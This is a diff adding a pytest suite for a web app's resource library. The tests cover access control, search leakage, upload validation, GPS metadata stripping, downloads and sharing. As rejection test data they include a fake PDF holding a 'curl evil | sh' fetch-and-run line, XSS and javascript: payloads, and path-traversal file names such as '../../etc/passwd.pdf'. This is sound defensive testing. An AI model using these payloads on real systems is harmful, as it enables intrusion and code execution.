@@ -1,0 +1,389 @@
+"""Resource library: visibility, search leakage, uploads, downloads, edits, shares."""
+
+from __future__ import annotations
+
+import io
+import os
+from pathlib import Path
+
+import pytest
+from PIL import Image
+from sqlalchemy import func, select
+
+from network import policy
+from network.extensions import db
+from network.library import services
+from network.models import AuditEvent, Message, Report, Resource, TrustLevel
+from tests import factories
+from tests.conftest import post_form
+from tests.library.conftest import (
+    docx_bytes,
+    jpeg_with_gps,
+    odt_bytes,
+    pdf_bytes,
+    png_bytes,
+)
+
+
+def _upload(client, name: str, data: bytes, **fields):
+    form = {
+        "kind": "file",
+        "title": fields.pop("title", "A file"),
+        "language": "en",
+        "visibility": fields.pop("visibility", "org"),
+        "file": (io.BytesIO(data), name),
+        **fields,
+    }
+    return post_form(
+        client,
+        "/library/new",
+        form,
+        token_from="/library/new",
+        content_type="multipart/form-data",
+    )
+
+
+def _files(app) -> list[str]:
+    return sorted(os.listdir(app.config["UPLOAD_DIR"]))
+
+
+def _link(lib, title="Housing guide", visibility="org", **extra):
+    fields = services.Fields(title=title, visibility=visibility, **extra)
+    return services.create_link(lib.org_a, lib.author, fields, "https://example.org/x")
+
+
+def test_visible_resources_agrees_with_can_see_resource(app, lib):
+    from network.safety import services as safety
+
+    resources = [_link(lib, "Org only"), _link(lib, "For partners", "partners")]
+    resources.append(
+        services.create_link(
+            lib.org_b,
+            lib.bea,
+            services.Fields(title="B partners", visibility="partners"),
+            "https://example.org/b",
+        )
+    )
+    safety.file_separation(lib.member_a, "Lib Author", actor=lib.member_a)
+    people = [
+        lib.lead_a,
+        lib.author,
+        lib.member_a,
+        lib.bea,
+        lib.cole,
+        factories.make_admin(),
+        factories.make_member(lib.org_a, status="pending"),
+    ]
+    for person in people:
+        listed = set(
+            db.session.scalars(policy.visible_resources(select(Resource.id), person))
+        )
+        for resource in resources:
+            assert (resource.id in listed) == policy.can_see_resource(person, resource)
+    assert policy.can_see_resource(lib.bea, resources[1])
+    assert not policy.can_see_resource(lib.bea, resources[0])
+    assert not policy.can_see_resource(lib.cole, resources[1])  # see < collaborate
+    assert not policy.can_see_resource(lib.member_a, resources[0])  # separated author
+
+
+def test_search_leakage_unique_word_never_reaches_other_orgs(app, lib, login_as):
+    _link(lib, "Zanzibarquux protocol", description="only for us")
+    _link(lib, "Shared guide", "partners", description="everyone", tags="housing")
+    own = login_as(lib.member_a).get("/library?q=zanzibarquux").get_data(as_text=True)
+    assert "Zanzibarquux protocol" in own and "1 resource" in own
+    for person in (lib.bea, lib.cole):
+        client = login_as(person)
+        for url in (
+            "/library?q=zanzibarquux",
+            "/library?q=Zanzibarquux+protocol",
+            "/library",
+            "/library?tag=housing",
+            "/library?q=only",
+        ):
+            page = client.get(url).get_data(as_text=True)
+            results = page.split('id="result-count"')[1]  # the query box echoes it
+            assert "anzibarquux" not in results.lower()
+            assert "only for us" not in page
+        searched = client.get("/library?q=zanzibarquux").get_data(as_text=True)
+        assert "0 resources" in searched
+    bea_all = login_as(lib.bea).get("/library").get_data(as_text=True)
+    assert "1 resource" in bea_all and "Shared guide" in bea_all
+
+
+def test_search_by_title_description_and_tags(app, lib, login_as):
+    _link(
+        lib,
+        "Court support checklist",
+        description="Before the **hearing**",
+        tags="legal, court",
+    )
+    _link(
+        lib,
+        "Grounding exercises",
+        description="Breathing",
+        tags="coping",
+        language="fr",
+    )
+    client = login_as(lib.member_a)
+
+    def titles(query):
+        page = client.get("/library?" + query).get_data(as_text=True)
+        return {
+            t for t in ("Court support checklist", "Grounding exercises") if t in page
+        }
+
+    assert titles("q=hearing") == {"Court support checklist"}
+    assert titles("q=court") == {"Court support checklist"}
+    assert titles("q=coping") == {"Grounding exercises"}
+    assert titles("tag=legal") == {"Court support checklist"}
+    assert titles("language=fr") == {"Grounding exercises"}
+    assert titles("q=%22%29%28*") == set()  # FTS syntax is never interpreted
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "kind"),
+    [
+        ("notes.pdf", pdf_bytes(), "application/pdf"),
+        ("paper.docx", docx_bytes(), "wordprocessingml"),
+        ("paper.odt", odt_bytes(), "opendocument.text"),
+        ("readme.txt", "Des notes en français\n".encode(), "text/plain"),
+        ("picture.png", png_bytes(), "image/png"),
+    ],
+)
+def test_allowed_uploads_are_stored_outside_static(
+    app, lib, login_as, name, data, kind
+):
+    response = _upload(login_as(lib.author), name, data)
+    assert response.status_code == 302, response.get_data(as_text=True)
+    resource = db.session.scalar(select(Resource))
+    assert kind in resource.mime_type
+    stored = Path(app.config["UPLOAD_DIR"]) / resource.stored_name
+    assert stored.is_file() and "static" not in str(stored)
+    assert resource.stored_name != name and len(resource.stored_name) == 32
+
+
+def test_jpeg_gps_metadata_is_gone_after_upload(app, lib, login_as):
+    original = jpeg_with_gps()
+    assert Image.open(io.BytesIO(original)).getexif().get_ifd(0x8825)
+    assert _upload(login_as(lib.author), "photo.jpeg", original).status_code == 302
+    resource = db.session.scalar(select(Resource))
+    data = (Path(app.config["UPLOAD_DIR"]) / resource.stored_name).read_bytes()
+    cleaned = Image.open(io.BytesIO(data))
+    assert not cleaned.getexif()
+    assert not cleaned.getexif().get_ifd(0x8825)
+    assert b"PhoneMaker" not in data and b"Exif" not in data
+    assert resource.file_name == "photo.jpg"
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "message"),
+    [
+        ("script.pdf", b"#!/bin/sh\ncurl evil | sh\n", "content is not PDF"),
+        ("page.html", b"<html><script>alert(1)</script></html>", "Upload a PDF"),
+        ("page.txt", b"<html><script>alert(1)</script></html>", "is not a PDF, DOCX"),
+        ("image.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>', "Upload a PDF"),
+        (
+            "image.png",
+            b'<svg xmlns="http://www.w3.org/2000/svg"/>',
+            "is not a PDF, DOCX",
+        ),
+        ("empty.pdf", b"", "That file is empty."),
+        ("fake.docx", b"PK\x03\x04not really a zip", "is not a PDF, DOCX"),
+        ("binary.txt", b"\x00\x01\x02\x03", "is not a PDF, DOCX"),
+        ("doc.odt", docx_bytes(), "content is not OpenDocument"),
+    ],
+)
+def test_bad_uploads_get_clear_errors_and_leave_nothing(
+    app, lib, login_as, name, data, message
+):
+    before = _files(app)
+    response = _upload(login_as(lib.author), name, data)
+    assert response.status_code == 400
+    body = response.get_data(as_text=True).replace("&#39;", "'")
+    assert message in body, body[-800:]
+    assert _files(app) == before
+    assert db.session.scalar(select(func.count(Resource.id))) == 0
+
+
+def test_oversized_upload_is_refused_and_leaves_nothing(app, lib, login_as):
+    app.config["UPLOAD_MAX_BYTES"] = 1024
+    before = _files(app)
+    response = _upload(login_as(lib.author), "big.pdf", pdf_bytes("x" * 5000))
+    assert response.status_code == 400
+    assert "larger than" in response.get_data(as_text=True)
+    assert _files(app) == before
+    app.config["MAX_CONTENT_LENGTH"] = 2048
+    response = _upload(login_as(lib.author), "huge.pdf", pdf_bytes("x" * 50000))
+    assert response.status_code == 413
+    assert "Nothing was uploaded" in response.get_data(as_text=True)
+    assert _files(app) == before
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "../../etc/passwd.pdf",
+        "..\\..\\boot.pdf",
+        "report\u202efdp.exe.pdf",
+        "/abs/path/x.pdf",
+        "con.pdf",
+        "\u0000nul.pdf",
+    ],
+)
+def test_path_tricks_in_names_are_neutralised(app, lib, login_as, name):
+    assert _upload(login_as(lib.author), name, pdf_bytes()).status_code == 302
+    resource = db.session.scalar(select(Resource))
+    assert "/" not in resource.file_name and "\\" not in resource.file_name
+    assert "\u202e" not in resource.file_name and ".." not in resource.file_name
+    assert resource.file_name.endswith(".pdf")
+    assert set(_files(app)) == {resource.stored_name}
+
+
+def test_download_through_access_check_as_attachment(app, lib, login_as):
+    _upload(
+        login_as(lib.author), "guide.pdf", pdf_bytes("secret"), visibility="partners"
+    )
+    resource = db.session.scalar(select(Resource))
+    url = f"/library/{resource.public_id}/download"
+    ok = login_as(lib.bea).get(url)
+    assert ok.status_code == 200 and ok.data.startswith(b"%PDF-")
+    assert ok.headers["Content-Disposition"].startswith("attachment")
+    assert ok.headers["X-Content-Type-Options"] == "nosniff"
+    assert "sandbox" in ok.headers["Content-Security-Policy"]
+    stranger = login_as(factories.make_member(factories.make_org("Lib D")))
+    guessed = stranger.get(url)
+    missing = stranger.get("/library/noSuchResource1/download")
+    assert guessed.status_code == missing.status_code == 404
+    assert guessed.get_data() == missing.get_data()
+    assert login_as(lib.cole).get(url).status_code == 404
+
+
+def test_edit_and_delete_rights_and_audit(app, lib, login_as):
+    _upload(login_as(lib.author), "guide.pdf", pdf_bytes())
+    resource = db.session.scalar(select(Resource))
+    edit = f"/library/{resource.public_id}/edit"
+    data = {
+        "title": "Renamed",
+        "language": "fr",
+        "visibility": "partners",
+        "tags": "a, b",
+    }
+    assert (
+        post_form(login_as(lib.member_a), edit, data, token_from="/logout").status_code
+        == 404
+    )
+    assert (
+        post_form(login_as(lib.bea), edit, data, token_from="/logout").status_code
+        == 404
+    )
+    assert (
+        post_form(login_as(lib.author), edit, data, token_from=edit).status_code == 302
+    )
+    db.session.refresh(resource)
+    assert (resource.title, resource.tag_list) == ("Renamed", ["a", "b"])
+    stored = Path(app.config["UPLOAD_DIR"]) / resource.stored_name
+    delete = f"/library/{resource.public_id}/delete"
+    assert (
+        post_form(login_as(lib.lead_a), delete, {}, token_from="/logout").status_code
+        == 302
+    )
+    assert not stored.exists()
+    assert db.session.scalar(select(func.count(Resource.id))) == 0
+    actions = list(
+        db.session.scalars(
+            select(AuditEvent.action)
+            .where(AuditEvent.action.like("resource.%"))
+            .order_by(AuditEvent.id)
+        )
+    )
+    assert actions == ["resource.created", "resource.updated", "resource.deleted"]
+
+
+def test_bad_link_and_fields_change_nothing(app, lib, login_as):
+    client = login_as(lib.author)
+    for data, message in [
+        ({"url": "javascript:alert(1)"}, "Enter a web address"),
+        ({"url": "https://ok.example", "title": ""}, "Enter a title."),
+        (
+            {"url": "https://ok.example", "tags": ",".join(f"t{n}" for n in range(9))},
+            "at most 8 tags",
+        ),
+    ]:
+        form = {
+            "kind": "link",
+            "title": "T",
+            "language": "en",
+            "visibility": "org",
+            **data,
+        }
+        response = post_form(client, "/library/new", form, token_from="/library/new")
+        assert response.status_code == 400
+        assert message in response.get_data(as_text=True)
+    assert db.session.scalar(select(func.count(Resource.id))) == 0
+
+
+def test_description_is_sanitized(app, lib):
+    resource = _link(lib, description="[x](javascript:alert(1)) <img src=x onerror=1>")
+    assert "<img" not in resource.description_html
+    assert "href" not in resource.description_html  # the javascript: link is text
+
+
+def test_report_goes_to_owner_moderators(app, lib, login_as):
+    resource = _link(lib, "Shared", "partners")
+    url = f"/reports/new?resource={resource.public_id}"
+    assert (
+        post_form(
+            login_as(lib.bea), url, {"category": "spam"}, token_from=url
+        ).status_code
+        == 302
+    )
+    report = db.session.scalar(select(Report))
+    assert (report.target_type, report.routed_org_id) == ("resource", lib.org_a.id)
+    assert policy.can_review_report(lib.lead_a, report)
+    lead_b = factories.make_member(lib.org_b, role="lead")
+    assert not policy.can_review_report(lead_b, report)
+    hidden = _link(lib, "Org only")
+    denied = post_form(
+        login_as(lib.bea),
+        f"/reports/new?resource={hidden.public_id}",
+        {"category": "spam"},
+        token_from="/logout",
+    )
+    assert denied.status_code == 404
+
+
+def test_sharing_into_a_room_shows_unavailable_to_those_who_cannot_see(
+    app, lib, login_as
+):
+    room = factories.make_room(lib.org_a, visibility="partners", name="Shared room")
+    org_only = _link(lib, "Org only title")
+    client = login_as(lib.author)
+    response = post_form(
+        client,
+        f"/library/{org_only.public_id}/share",
+        {"room": room.public_id},
+        token_from="/logout",
+    )
+    assert response.status_code == 302
+    message = db.session.scalar(select(Message))
+    assert message.resource_id == org_only.id and message.body == ""
+    own = login_as(lib.member_a).get(f"/rooms/{room.public_id}").get_data(as_text=True)
+    assert "Org only title" in own
+    partner = login_as(lib.bea).get(f"/rooms/{room.public_id}").get_data(as_text=True)
+    assert "Resource unavailable" in partner and "Org only title" not in partner
+    card = login_as(lib.bea).get(f"/library/{org_only.public_id}/card.json")
+    missing = login_as(lib.bea).get("/library/noSuchResource1/card.json")
+    assert card.status_code == missing.status_code == 404
+    assert card.get_data() == missing.get_data()
+    assert login_as(lib.member_a).get(
+        f"/library/{org_only.public_id}/card.json"
+    ).get_json()["title"] == ("Org only title")
+
+
+def test_lowered_trust_hides_partner_resources_at_once(app, lib, login_as):
+    shared = _link(lib, "Partner guide", "partners")
+    client = login_as(lib.bea)
+    assert client.get(f"/library/{shared.public_id}").status_code == 200
+    factories.set_trust(lib.org_a, lib.org_b, TrustLevel.SEE)
+    assert client.get(f"/library/{shared.public_id}").status_code == 404
+    assert "Partner guide" not in client.get("/library").get_data(as_text=True)
